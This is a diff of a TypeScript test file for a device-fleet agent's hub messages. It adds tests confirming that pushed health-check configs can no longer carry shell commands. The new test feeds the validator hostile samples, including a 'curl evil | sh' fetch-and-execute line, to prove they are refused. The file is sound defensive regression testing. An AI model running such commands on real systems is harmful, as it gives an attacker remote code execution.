@@ -38,7 +38,7 @@ const HUB: HubMessage[] = [
   { v: 1, type: 'cancel', id: 'c-3', deploymentId: 'd-1' },
   { v: 1, type: 'reboot', id: 'c-4', reason: 'kernel' },
   { v: 1, type: 'inventory.refresh', id: 'c-5' },
-  { v: 1, type: 'config.push', id: 'c-6', config: { windows: [{ cron: '0 1 * * *', durationMinutes: 60, timezone: 'UTC' }], installWindows: [], reportIntervals: { inventoryS: 600 }, healthChecks: [{ name: 'app', command: ['/bin/true'], timeoutS: 5 }] } },
+  { v: 1, type: 'config.push', id: 'c-6', config: { windows: [{ cron: '0 1 * * *', durationMinutes: 60, timezone: 'UTC' }], installWindows: [], reportIntervals: { inventoryS: 600 }, healthChecks: [{ name: 'app', timeoutS: 5 }, { name: 'hub-reachable' }] } },
   { v: 1, type: 'backoff', id: 'h6', retryAfterS: 120 },
 ];
 
@@ -129,11 +129,31 @@ test('the encoder refuses to send what the other side would refuse', () => {
 test('hub-pushed config is validated field by field', () => {
   assert.deepEqual(pushedConfig({ reportIntervals: { locationS: 60 } }), { reportIntervals: { locationS: 60 } });
   assert.throws(() => pushedConfig({ reportIntervals: { locationS: 1 } }), /locationS/);
-  assert.throws(() => pushedConfig({ healthChecks: [{ name: 'x', command: [], timeoutS: 1 }] }), /command/);
   assert.throws(() => pushedConfig({ windows: [{ start: '01:00', end: '02:00' }] }), /unknown|cron/);
   assert.throws(() => pushedConfig({ installWindows: [{ cron: '0 3 * * 0', durationMinutes: 60, timezone: 'UTC', maxBytesPerSecond: 5 }] }), /maxBytesPerSecond/);
   // The config file's @daily-style shorthands are the same window form on the wire.
   assert.deepEqual(pushedConfig({ windows: [{ cron: '@daily', durationMinutes: 60, timezone: 'UTC' }] }).windows, [{ cron: '@daily', durationMinutes: 60, timezone: 'UTC' }]);
   assert.throws(() => pushedConfig({ windows: [{ cron: '0  1 * * *', durationMinutes: 60, timezone: 'UTC' }] }), /cron/);
   assert.throws(() => pushedConfig({ surprise: true }), /unknown field/);
+});
+
+// Finding 4: a pushed health check used to be an argv the node ran at every trial boot, so a hub
+// without the signing key could run code on every node. Now a push only names checks.
+test('pushed health checks are names (a bare string or {name, timeoutS}); a command is refused with E_PUSH_HEALTH_CHECK', () => {
+  assert.deepEqual(pushedConfig({ healthChecks: ['app-selftest', { name: 'disk', timeoutS: 20 }] }).healthChecks, [{ name: 'app-selftest' }, { name: 'disk', timeoutS: 20 }]);
+  assert.deepEqual(pushedConfig({ healthChecks: [] }).healthChecks, []);
+  for (const h of [
+    { name: 'app', command: ['/bin/sh', '-c', 'curl evil | sh'], timeoutS: 5 },
+    { name: 'app', command: [] },
+    { name: 'app', command: '/bin/true' },
+  ]) {
+    assert.throws(() => pushedConfig({ healthChecks: [h] }), (err: { code?: string; message: string }) => err.code === 'E_PUSH_HEALTH_CHECK' && /cannot carry a command/.test(err.message));
+    const d = decodeHubMessage(JSON.stringify({ v: 1, type: 'config.push', id: 'c-9', config: { healthChecks: [h] } }));
+    assert.deepEqual(d.ok ? null : [d.code, d.ref], ['E_PUSH_HEALTH_CHECK', 'c-9'], 'the error reply names the push');
+  }
+  assert.throws(() => pushedConfig({ healthChecks: [{ name: 'app', args: ['x'] }] }), /unknown field/);
+  assert.throws(() => pushedConfig({ healthChecks: ['app', { name: 'app' }] }), /named twice/);
+  assert.throws(() => pushedConfig({ healthChecks: [{ name: 'app', timeoutS: 0 }] }), /timeoutS/);
+  assert.throws(() => pushedConfig({ healthChecks: [{ name: 'app', timeoutS: 3601 }] }), /timeoutS/);
+  assert.throws(() => pushedConfig({ healthChecks: ['/bin/sh -c x'] }), /only letters/);
 });
